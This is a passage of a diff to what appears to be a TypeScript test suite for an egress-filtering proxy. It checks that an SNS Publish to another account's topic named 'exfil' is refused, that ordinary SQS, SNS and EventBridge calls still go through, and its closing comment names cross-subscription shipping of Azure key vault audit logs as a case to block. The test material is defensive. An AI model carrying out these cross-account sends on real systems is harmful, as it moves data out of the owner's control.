+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('exfil')), `twenty-sixth pass: an SNS Publish whose topic is another account's: decided (${res?.status}) #${i}`);
+  }
+  {
+    const text = `Action=GetTopicAttributes&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${text.length}\r\n\r\n`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && !isProblem(res), `control: an SNS call other than Publish naming a topic goes through (${res?.status})`);
+  }
+  {
+    const text = JSON.stringify({ QueueUrl: `http://${dHost}/111111111111/own`, MessageBody: 'data' });
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/111111111111/own HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-amz-json-1.0\r\nX-Amz-Target: AmazonSQS.SendMessage\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`, text], { responses: 1 })).text);
+    t.ok(res?.status === 200 && sentTo.at(-1) === `sqs http://${dHost}/111111111111/own`, `control: an SQS message to the allowed queue is sent (${res?.status})`);
+  }
+  for (const [how, payload] of [['AWSEvents.PutRule', { Name: 'all', EventPattern: '{"source":["aws.ec2"]}' }], ['AWSEvents.ListTargetsByRule', { Rule: 'all' }], ['AWSEvents.PutEvents', { Entries: [{ Source: 'app', DetailType: 'x', Detail: '{}', EventBusName: 'orders' }] }]] as const) {
+    const text = JSON.stringify(payload);
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: ${how}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && !isProblem(res), `control: ${how} goes through (${res?.status})`);
   }
   // (An Azure diagnostic setting sending a key vault's audit logs to another subscription's storage account or Event Hub.)
   for (const [i, [what, id]] of ([
